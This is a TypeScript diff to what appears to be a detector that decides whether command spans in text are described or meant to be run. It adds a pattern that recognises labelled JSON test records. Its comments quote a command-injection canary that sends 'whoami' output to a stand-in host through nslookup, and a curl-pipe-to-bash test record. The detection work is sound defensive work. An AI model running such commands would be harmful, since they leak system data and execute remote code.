@@ -216,6 +216,10 @@ function inCatalogue(sentence: string, text: string, spanEnd: number): boolean {
  */
 const INJECTED_STRING = /^\s{0,2}["']?\s{0,2}(?:(?:;|&&|\|\||\|(?!\|))\s{0,2}[a-z$]|<!--)/i;
 
+/** A JSON record that says what a detector or model must make of it (`"expect"`, `"label"`, `"verdict"`, `"should_block"`). */
+const TEST_RECORD_SPAN =
+  /^\s{0,2}\{\s{0,4}"[\w-]{1,30}"\s{0,4}:[^\n]{0,1800}"(?:expect\w{0,20}|label|verdict|ground_truth|should_\w{1,30}|must_\w{1,30})"\s{0,4}:/;
+
 /** A YARA string definition: a name, a text, hex or regular expression, and YARA's string modifiers. */
 const YARA_STRING =
   /^\$\w{0,40}\s{0,4}=\s{0,4}(?:"[^"\n]{0,200}"|\{[^}\n]{0,200}\}|\/[^/\n]{0,200}\/)(?:\s{1,4}(?:ascii|wide|nocase|fullword|private|xor|base64|base64wide))+/;
@@ -233,6 +237,9 @@ export function readSpan(text: string, spanStart: number, spanEnd: number): Span
   // "Injection proofs use a canary: `; nslookup $(whoami).oast.example`": a span that opens with a command separator is
   // an injection string typed into someone's input (a shell refuses it as a command line), whatever the verb before it.
   if (INJECTED_STRING.test(text.slice(spanStart, Math.min(spanEnd, spanStart + 8)))) return { toldToRun: false, described: true, listFrom };
+  // `{"cmd": "curl … | bash", "expect": ["curl_pipe_shell"]}`: a test record, shown with what a rule must make of it.
+  if (TEST_RECORD_SPAN.test(text.slice(spanStart, Math.min(spanEnd, spanStart + 2000))))
+    return { toldToRun: false, described: true, listFrom };
   if (subjectOfStatement(sentence, text, spanEnd) || (!toldToRun && inCatalogue(sentence, text, spanEnd)))
     return { toldToRun, described: true, listFrom };
   if (toldToRun) return { toldToRun, described: false, listFrom };
